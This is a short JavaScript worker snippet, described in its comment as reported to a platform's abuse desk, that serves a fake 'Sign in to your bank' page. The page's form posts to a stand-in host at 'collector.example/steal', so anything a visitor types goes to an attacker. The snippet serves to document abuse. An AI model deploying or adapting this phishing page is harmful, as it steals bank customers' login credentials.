// Reported to the platform's abuse desk: a fake bank login on the platform's domain.
export default {
  fetch() {
    return new Response('<h1>Sign in to your bank</h1><form method="post" action="https://collector.example/steal">…</form>', {
      headers: { 'content-type': 'text/html' },
    });
  },
};
